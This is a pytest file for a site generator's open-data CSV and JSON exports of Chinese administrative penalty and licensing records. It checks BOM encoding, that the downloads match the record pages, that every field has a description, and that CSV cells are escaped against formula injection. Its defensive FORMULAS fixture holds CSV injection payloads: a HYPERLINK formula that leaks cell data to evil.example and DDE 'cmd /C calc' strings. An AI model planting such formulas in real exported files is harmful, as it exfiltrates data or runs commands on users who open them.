"""Open-data downloads of the demo build: Excel-ready CSV and JSON, exactly as the pages show."""

from __future__ import annotations

import csv
import html
import io
import json
from datetime import date
from pathlib import Path

from conftest import row as base_row
from conftest import write_rows

from generator.core.urls import record_url
from generator.ingest import ingest
from generator.site.emitters.opendata import FORMULA_STARTS, csv_cell, emit_opendata
from generator.site.index import index_site
from generator.site.present import FIELDS, URL_LABEL, field_notes


def test_every_kind_downloads_as_csv_with_bom_and_as_json(demo_build) -> None:  # type: ignore[no-untyped-def]
    site, checked = demo_build
    for kind in FIELDS:
        raw = (site / "opendata" / f"{kind}.csv").read_bytes()
        assert raw.startswith("\ufeff".encode()), kind  # Excel reads UTF-8 only with a BOM
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        labels = [label for label, _ in FIELDS[kind]] + [URL_LABEL]
        assert rows[0] == labels
        document = json.loads((site / "opendata" / f"{kind}.json").read_text(encoding="utf-8"))
        assert document["fields"] == labels and document["build_day"] == "2026-11-23"
        published = checked.ruling.published.get(kind, ())
        assert len(rows) - 1 == len(document["records"]) == len(published)
        # The same values; only a CSV cell a spreadsheet would evaluate starts with `'`.
        assert [[csv_cell(v) for v in r.values()] for r in document["records"]] == rows[1:]
        urls = {row[-1].split("/", 3)[-1] for row in rows[1:]}
        assert urls == {record_url(r).lstrip("/") for r in published}  # nothing withheld


def test_download_values_are_the_values_on_the_record_pages(demo_build) -> None:  # type: ignore[no-untyped-def]
    site, _ = demo_build
    for kind in ("penalties", "licensing", "blacklist", "commitments"):
        raw = (site / "opendata" / f"{kind}.csv").read_text(encoding="utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(raw)))
        assert rows, kind
        for row in rows:
            page = site / row[URL_LABEL].split("/", 3)[-1] / "index.html"
            text = html.unescape(page.read_text(encoding="utf-8"))
            for label, value in row.items():
                if value and label != URL_LABEL:
                    assert value in text, (kind, label, value, page)


def test_the_open_data_page_describes_every_field_and_the_licence(demo_build) -> None:  # type: ignore[no-untyped-def]
    site, _ = demo_build
    text = (site / "opendata" / "index.html").read_text(encoding="utf-8")
    notes = field_notes()
    for kind, fields in notes.items():
        assert f'href="/opendata/{kind}.csv"' in text and f'href="/opendata/{kind}.json"' in text
        for label, note in fields:
            assert note and html.escape(note, quote=False) in text, (kind, label)
    assert "数据使用许可" in text and "2026-11-23" in text


def test_no_field_ships_without_a_description() -> None:
    notes = field_notes()
    assert set(notes) == set(FIELDS)
    for kind, fields in FIELDS.items():
        assert [label for label, _ in notes[kind]] == [label for label, _ in fields] + [URL_LABEL]


FORMULAS = {
    "行政相对人名称": '=HYPERLINK("https://evil.example/?"&A1,"点击查看")',
    "违法事实": "+cmd|' /C calc'!A0",
    "处罚内容": "-2+3",
    "备注": "@SUM(1+1)*cmd|' /C calc'!A0",
    "违法行为类型": "\t=1+1",
}


def test_no_csv_cell_starts_with_a_formula_character_and_json_stays_exact(
    tmp_path: Path,
) -> None:
    write_rows(tmp_path / "penalties" / "penalties.csv", [base_row("penalties", **FORMULAS)])
    ingested = ingest(tmp_path, b"salt")
    published = {kind: tuple(result.records) for kind, result in ingested.kinds.items()}
    site = index_site(published, (), date(2026, 6, 1))
    files = {a.path: a.data for a in emit_opendata(site.kinds, "https://x.example", site.day)}
    for path, data in files.items():
        if path.endswith(".csv"):
            for cells in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
                assert not [c for c in cells if c.startswith(FORMULA_STARTS)], (path, cells)
    rows = list(csv.DictReader(io.StringIO(files["opendata/penalties.csv"].decode("utf-8-sig"))))
    record = json.loads(files["opendata/penalties.json"])["records"][0]
    for label, value in FORMULAS.items():
        shown = value.strip()  # ingest trims cells: the tab goes, its `=` stays
        assert record[label] == shown
        assert rows[0][label] == "'" + shown


def test_every_formula_start_is_neutralised_and_other_text_is_not() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("九江市恒达建材有限公司") == "九江市恒达建材有限公司"
    assert csv_cell("2025-06-01") == "2025-06-01" and csv_cell("") == ""
